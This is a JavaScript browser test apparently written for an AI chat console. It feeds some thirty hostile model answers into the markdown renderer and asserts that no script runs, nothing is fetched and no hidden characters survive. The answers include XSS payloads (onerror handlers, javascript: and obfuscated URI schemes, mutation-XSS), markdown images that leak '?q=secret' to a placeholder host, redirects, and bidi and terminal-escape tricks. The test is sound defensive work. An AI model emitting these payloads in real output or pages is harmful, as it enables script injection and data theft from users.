/** What models answer does nothing: no script runs, nothing is fetched, nobody is deceived by what cannot be seen. */
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { Stage } from './stage.mjs'

const ELSEWHERE = 'http://elsewhere.invalid'
const ANSWERS = [
  '<script>window.ran = 1</script>',
  '<img src=x onerror="window.ran = 1">',
  `<img src="${ELSEWHERE}/p.png">`,
  `![a picture](${ELSEWHERE}/?q=secret)`,
  `![a picture][1]\n\n[1]: ${ELSEWHERE}/?q=secret`,
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '[link](javascript:window.ran=1)',
  '[link](JaVaScRiPt&colon;window.ran=1)',
  '[link](java\u0000script:window.ran=1)',
  '[link](vbscript:window.ran=1)',
  '[link](data:text/html,<script>window.ran=1</script>)',
  '<javascript:window.ran=1>',
  '<svg onload="window.ran = 1"><script>window.ran = 1</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.ran = 1">',
  `<iframe src="${ELSEWHERE}"></iframe>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/s.css">`,
  `<style>@import "${ELSEWHERE}/s.css"; body { display: none }</style>`,
  `<form action="${ELSEWHERE}"><button>Send</button></form>`,
  `<base href="${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  '<details open ontoggle="window.ran = 1">x</details>',
  '<a href="javascript:window.ran=1" id="x">x</a>',
  '```html\n<img src=x onerror="window.ran = 1">\n```',
  '```"><img src=x onerror="window.ran=1">\nx\n```',
  '`<img src=x onerror="window.ran = 1">`',
  '[x](https://example.com "\\"onmouseover=window.ran=1")',
  '**[**`<`![](x onerror=window.ran=1)',
  '```\n' + 'x'.repeat(200_000),
  '> '.repeat(300) + 'deep',
  'if access \u202e\u2066// check\u2069\u2066 begin',
  '\u001b[2J\u001b]8;;http://elsewhere.invalid\u0007here\u001b]8;;\u0007',
  '| a |\n|---|\n| <img src=x onerror="window.ran=1"> |',
  '[open [bracket](https://example.com',
]
let stage

before(async () => {
  stage = await Stage.set()
})
after(() => stage?.clear())

test(`none of ${ANSWERS.length} hostile answers runs, fetches or hides anything`, async () => {
  const page = await stage.page('/console/chat')
  await page.getByLabel('Model').selectOption('cloud')
  for (const [number, text] of ANSWERS.entries()) {
    await stage.script('cloud', { text, chunks: pieces(text), tokens_per_second: 5_000 })
    await page.getByRole('button', { name: 'New conversation' }).click()
    await page.getByRole('textbox', { name: /Say something/ }).fill(`Number ${number}`)
    await page.keyboard.press('Enter')
    await page.getByRole('button', { name: 'Ask again' }).waitFor()
    for (const link of await page.locator('.markdown a').all()) {
      const [href, rel, target] = await link.evaluate((it) => [it.getAttribute('href') ?? '', it.rel, it.target])
      assert.match(href, /^(https?:|mailto:|$)/, text)
      assert.equal(target, '_blank')
      assert.match(rel, /noopener/)
    }
    const inside = await page.locator('.markdown').evaluate((it) => ({
      tags: [...it.querySelectorAll('*')].map((each) => each.tagName.toLowerCase()),
      handlers: [...it.querySelectorAll('*')].flatMap((each) => each.getAttributeNames()).filter((name) => name.startsWith('on') || name === 'style'),
      text: it.textContent,
    }))
    for (const tag of ['script', 'img', 'svg', 'iframe', 'style', 'link', 'form', 'base', 'meta', 'object']) assert.ok(!inside.tags.includes(tag), `${tag}: ${text}`)
    assert.deepEqual(inside.handlers, [], text)
    assert.doesNotMatch(inside.text, /[\u001b\u202a-\u202e\u2066-\u2069]/u)
    assert.equal(await page.evaluate(() => window.ran), undefined, text)
  }
  assert.equal(new URL(page.url()).origin, stage.url)
  assert.deepEqual(page.faults, [])
})

function pieces(text) {
  const size = Math.max(1, Math.ceil(text.length / 40))
  return Array.from({ length: Math.ceil(text.length / size) }, (_, at) => text.slice(at * size, (at + 1) * size))
}
